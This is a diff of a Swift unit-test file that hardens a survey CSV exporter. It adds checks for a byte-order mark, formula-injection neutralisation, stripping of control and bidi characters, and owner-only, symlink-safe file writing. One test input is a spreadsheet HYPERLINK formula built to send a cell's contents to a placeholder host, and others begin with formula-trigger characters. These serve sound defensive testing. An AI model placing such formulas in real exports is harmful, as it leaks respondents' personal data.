@@ -6,7 +6,7 @@ final class CSVExporterTests: XCTestCase {
     func testHeader() {
         XCTAssertEqual(
             CSVExporter.document(for: []),
-            "submitted_at,name,company,years_of_experience,current_employer,approx_salary,comments\r\n"
+            "\u{FEFF}submitted_at,name,company,years_of_experience,current_employer,approx_salary,comments\r\n"
         )
     }
 
@@ -43,14 +43,100 @@ final class CSVExporterTests: XCTestCase {
         let responses = (1...3).map {
             SurveyResponse(answers: SurveyAnswers(name: "R\($0)"), submittedAt: Date(timeIntervalSince1970: Double($0)))
         }
-        try CSVExporter.write(responses, to: target)
+        try CSVExporter.write(responses, to: target, replacing: false)
         let text = try String(contentsOf: target, encoding: .utf8)
         XCTAssertEqual(text.components(separatedBy: "\r\n").filter { !$0.isEmpty }.count, 4)
     }
 
+    // MARK: - Safe to open in a spreadsheet
+
+    private func row(name: String = "Ada", company: String = "", comments: String = "") -> String {
+        CSVExporter.row(for: SurveyResponse(
+            answers: SurveyAnswers(name: name, companyName: company, comments: comments),
+            submittedAt: Date(timeIntervalSince1970: 0)
+        ))
+    }
+
+    func testTheDocument_startsWithAByteOrderMark_soSpreadsheetsReadUTF8() {
+        let document = CSVExporter.document(for: [
+            SurveyResponse(answers: SurveyAnswers(name: "Zoë"), submittedAt: Date(timeIntervalSince1970: 0)),
+        ])
+        XCTAssertEqual(Array(document.utf8.prefix(3)), [0xEF, 0xBB, 0xBF])
+        XCTAssertTrue(document.contains(",Zoë,"))
+    }
+
+    func testTextThatAFormulaWouldRun_isNeutralised() {
+        XCTAssertEqual(row(name: "=HYPERLINK(\"https://x/?\"&C2,\"x\")"),
+                       "1970-01-01T00:00:00Z,\"'=HYPERLINK(\"\"https://x/?\"\"&C2,\"\"x\"\")\",,,false,,")
+        for start in ["=", "+", "-", "@"] {
+            XCTAssertEqual(row(company: "\(start)1+1"), "1970-01-01T00:00:00Z,Ada,'\(start)1+1,,false,,", start)
+        }
+        XCTAssertEqual(row(comments: "\tcmd"), "1970-01-01T00:00:00Z,Ada,,,false,,'\tcmd")
+        XCTAssertEqual(row(comments: "\rcmd"), "1970-01-01T00:00:00Z,Ada,,,false,,\"'\rcmd\"")
+        XCTAssertEqual(row(name: "Ada = Lovelace"), "1970-01-01T00:00:00Z,Ada = Lovelace,,,false,,", "only a leading sign counts")
+    }
+
+    func testNumbers_areNotNeutralised() {
+        let response = SurveyResponse(
+            answers: SurveyAnswers(name: "Ada", yearsOfExperience: 0, approxSalary: 0),
+            submittedAt: Date(timeIntervalSince1970: 0)
+        )
+        XCTAssertEqual(CSVExporter.row(for: response), "1970-01-01T00:00:00Z,Ada,,0,false,0,")
+    }
+
+    func testControlAndBidiCharacters_areDropped_lineBreaksKeptInComments() {
+        XCTAssertEqual(row(name: "A\u{1B}[31mda\u{202E}", comments: "one\u{7}\ntwo\tthree\u{2066}"),
+                       "1970-01-01T00:00:00Z,A[31mda,,,false,,\"one\ntwo\tthree\"")
+        XCTAssertEqual(row(name: "Zoë 👩🏽‍💻, Ltd."), "1970-01-01T00:00:00Z,\"Zoë 👩🏽‍💻, Ltd.\",,,false,,")
+    }
+
+    // MARK: - Writing the file
+
+    private func mode(_ url: URL) throws -> Int {
+        try (FileManager.default.attributesOfItem(atPath: url.path)[.posixPermissions] as! NSNumber).intValue
+    }
+
+    func testWrite_makesANewFileTheOwnersOnly_andLeavesNoTemporaryFile() throws {
+        let folder = try TemporaryDirectory()
+        let target = folder.url.appendingPathComponent("export.csv")
+        try CSVExporter.write([], to: target, replacing: false)
+        XCTAssertEqual(try mode(target), 0o600)
+        XCTAssertEqual(try folder.contents(), ["export.csv"])
+    }
+
+    func testWrite_refusesAnExistingFile_unlessReplacing_andKeepsItsMode() throws {
+        let folder = try TemporaryDirectory()
+        let target = folder.url.appendingPathComponent("export.csv")
+        try Data("yesterday".utf8).write(to: target)
+        chmod(target.path, 0o640)
+        XCTAssertThrowsError(try CSVExporter.write([], to: target, replacing: false)) { error in
+            XCTAssertEqual((error as? StorageError)?.code, .fileExists)
+        }
+        XCTAssertEqual(try String(contentsOf: target, encoding: .utf8), "yesterday")
+
+        try CSVExporter.write([], to: target, replacing: true)
+        XCTAssertEqual(try Data(contentsOf: target), Data(CSVExporter.document(for: []).utf8))
+        XCTAssertEqual(try mode(target), 0o640)
+        XCTAssertEqual(try folder.contents(), ["export.csv"])
+    }
+
+    func testWrite_replacesALinkItself_neverItsTarget() throws {
+        let folder = try TemporaryDirectory()
+        let precious = folder.url.appendingPathComponent("precious")
+        try Data("keep".utf8).write(to: precious)
+        let link = folder.url.appendingPathComponent("export.csv")
+        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: precious)
+
+        XCTAssertThrowsError(try CSVExporter.write([], to: link, replacing: false))
+        try CSVExporter.write([], to: link, replacing: true)
+        XCTAssertEqual(try String(contentsOf: precious, encoding: .utf8), "keep")
+        XCTAssertNil(try? FileManager.default.destinationOfSymbolicLink(atPath: link.path))
+        XCTAssertEqual(try Data(contentsOf: link), Data(CSVExporter.document(for: []).utf8))
+    }
+
     func testWrite_toMissingFolderReportsError() throws {
         let target = URL(fileURLWithPath: "/nonexistent-\(UUID().uuidString)/export.csv")
-        XCTAssertThrowsError(try CSVExporter.write([], to: target)) { error in
+        XCTAssertThrowsError(try CSVExporter.write([], to: target, replacing: false)) { error in
             XCTAssertTrue((error as? StorageError)?.message.contains("export") == true)
         }
     }
